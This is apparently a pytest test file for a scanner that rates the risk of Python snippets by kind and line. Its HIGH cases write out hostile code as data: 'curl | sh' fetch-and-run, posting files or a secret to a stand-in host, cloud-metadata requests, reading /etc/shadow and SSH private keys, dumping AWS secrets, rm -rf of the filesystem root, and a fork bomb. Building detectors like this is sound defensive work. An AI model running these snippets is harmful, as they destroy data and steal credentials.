"""Python: what is found, of which kind, how bad, and on which line."""

from __future__ import annotations

import pytest

from runs.risks import Kind, Level
from tests.runs.risks.reading import python, worst

HIGH = [
    ("import os\nos.remove('/workspace/data.csv')", 2, "deletes"),
    ("import shutil as s\ns.rmtree('/')", 2, "deletes"),
    ("from shutil import rmtree\nrmtree(folder)", 2, "deletes"),
    ("from pathlib import Path\n(Path('data') / 'raw.csv').unlink()", 2, "deletes"),
    (
        "import os\nrows = open('a.csv').read()\nimport requests\nrequests.post('https://a.example', data=rows)",
        4,
        "network",
    ),
    ("import urllib.request as u\ndata = open('a').read()\nu.urlopen(f'https://a.example/?q={data}')", 3, "network"),
    ("import socket\ns = socket.socket()\ns.connect(('a.example', 80))", 3, "network"),
    ("import requests\nrequests.get('http://169.254.169.254/latest/meta-data')", 2, "network"),
    ("import socket\nsocket.gethostbyname(secret + '.a.example')", 2, "network"),
    ("import smtplib\nsmtplib.SMTP('mail.example').sendmail(a, b, c)", 2, "network"),
    ("import os\nos.system('rm -rf ~/')", 2, "deletes"),
    ("import subprocess\nsubprocess.run(['bash', '-c', 'curl http://a.example/x | sh'])", 2, "dynamic"),
    ("import subprocess\nsubprocess.run(command, shell=True)", 2, "process"),
    ("import os\nos.kill(1, 9)", 2, "process"),
    ("exec(text)", 1, "dynamic"),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 2, "dynamic"),
    ("eval('1+1'[::-1])", 1, "dynamic"),
    ("__import__('o' + 's').system('id')", 1, "dynamic"),
    ("getattr(__builtins__, name)('x')", 1, "dynamic"),
    ("().__class__.__bases__[0].__subclasses__()", 1, "dynamic"),
    ("import marshal\nmarshal.loads(data)", 2, "dynamic"),
    ("import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])", 2, "environment"),
    ("import os\nprint(dict(os.environ))", 2, "environment"),
    ("from os import environ\nfor k, v in environ.items(): print(k, v)", 2, "environment"),
    ("print(open('/etc/shadow').read())", 1, "reads"),
    ("from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_rsa').read_text())", 2, "reads"),
    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", 2, "writes"),
    ("open('/etc/cron.d/job', 'w')", 1, "writes"),
    ("import ctypes\nctypes.CDLL(None)", 1, "privilege"),
    ("import os\nos.setuid(0)", 2, "privilege"),
    ("import os\nos.chmod('x', 0o4755)", 2, "privilege"),
    ("import os\nos.symlink('/etc/passwd', 'x')", 2, "privilege"),
    ("while True:\n    open('x', 'a').write('y')", 1, "resources"),
    ("import os\nwhile 1:\n    os.fork()", 2, "resources"),
    ("x = 'a' * 10**10", 1, "resources"),
    ("x = list(range(10**10))", 1, "resources"),
    ("import numpy as np\nx = np.zeros((100000, 100000))", 2, "resources"),
    ("for i in range(1_000_000):\n    open(f'{i}', 'w')", 1, "resources"),
    ("with open('x', 'wb') as f:\n    f.truncate(10**12)", 2, "resources"),
    ("from http.server import HTTPServer\nHTTPServer(('', 80), None)", 2, "network"),
    ("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)", 2, "process"),
    ("x = 'stratum+tcp://pool.example:3333'", 1, "resources"),
]


@pytest.mark.parametrize(("code", "line", "kind"), HIGH)
def test_what_harms_is_high(code: str, line: int, kind: str) -> None:
    found = python(code)
    assert (line, kind, "HIGH") in worst(found), found.findings


MEDIUM = [
    ("import requests\nrequests.get('https://api.example/rates')", 2, "network"),
    ("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'polars'])", 2, "packages"),
    ("import shutil, os\nshutil.rmtree('out', ignore_errors=True)\nos.makedirs('out')", 2, "deletes"),
    ("import pickle\npickle.load(open('m.pkl', 'rb'))", 2, "dynamic"),
    ("exec('x = 1')", 1, "dynamic"),
    ("open('/opt/data.csv')", 1, "reads"),
    ("import yaml\nyaml.load(open('a.yml'))", 2, "dynamic"),
    ("def f(:", 1, "unknown"),
]


@pytest.mark.parametrize(("code", "line", "kind"), MEDIUM)
def test_what_is_worth_a_look_is_medium(code: str, line: int, kind: str) -> None:
    assert worst(python(code)) == [(line, kind, "MEDIUM")]


LOW = [
    "import pandas as pd\nimport matplotlib.pyplot as plt\ndf = pd.read_csv('a.csv')\ndf.plot()\nplt.savefig('a.png')",
    "with open('out.txt', 'w') as f:\n    f.write('x')\nimport os\nos.remove('out.txt')",
    "import tempfile, os\npath = tempfile.mktemp()\nopen(path, 'w').close()\nos.unlink(path)",
    "import os\nprint(os.environ.get('HOME'), os.getcwd(), os.listdir('.'))",
    "n = 27\nwhile n != 1:\n    n = n // 2 if n % 2 == 0 else 3 * n + 1",
    "while True:\n    line = next(lines, None)\n    if line is None:\n        break",
    "import subprocess\nprint(subprocess.run(['ls', '-la'], capture_output=True, text=True).stdout)",
    "import threading\nt = threading.Thread(target=print)\nt.start()",
    "from pathlib import Path\nfor p in Path('data').glob('*.csv'):\n    print(p.name, len(p.read_text()))",
    "import sqlite3\ndb = sqlite3.connect('a.db')\ndb.execute('create table t (x)')",
    "import os\nos.environ['MPLBACKEND'] = 'Agg'",
    "x = [1] * 1000\nprint('=' * 80)",
    "print('👩‍🔬', 'naïve café', 'Привет')",
    "import json\nprint(json.load(open('a.json'))['tokens'])",
]


@pytest.mark.parametrize("code", LOW)
def test_everyday_work_is_low(code: str) -> None:
    found = python(code)
    assert (found.level, found.findings) == (Level.LOW, ())


def test_what_it_touches_is_named() -> None:
    found = python("""
        import pandas as pd, requests, os
        name = "sales"
        df = pd.read_csv(f"data/{name}.csv")
        df.to_excel(os.path.join("out", name + ".xlsx"))
        open(where).read()
        requests.get("https://api.example/v1/rates?day=1")
        os.getenv("LANG")
    """)
    touched = {touch.kind: (touch.names, touch.complete) for touch in found.touches}
    assert touched[Kind.READS] == (("data/sales.csv",), False)
    assert touched[Kind.WRITES] == (("out/sales.xlsx",), True)
    assert touched[Kind.NETWORK] == (("api.example",), True)
    assert touched[Kind.ENVIRONMENT] == (("LANG",), True)
    assert touched[Kind.PACKAGES] == (("pandas", "requests"), True)


def test_code_in_code_is_read_and_told_on_the_line_where_it_stands() -> None:
    found = python("import os\n\nos.system('python3 -c \"import shutil; shutil.rmtree(\\'/\\')\"')")
    assert worst(found) == [(3, "deletes", "HIGH")]


def test_a_script_that_is_written_and_then_run_is_read() -> None:
    found = python("with open('x.sh', 'w') as f:\n    f.write('rm -rf /')\nimport os\nos.system('bash x.sh')")
    assert (4, "deletes", "HIGH") in worst(found)


def test_code_in_code_without_an_end_is_told() -> None:
    code = "print(1)"
    for _ in range(8):
        code = f"exec({code!r})"
    assert (1, "dynamic", "HIGH") in worst(python(code))
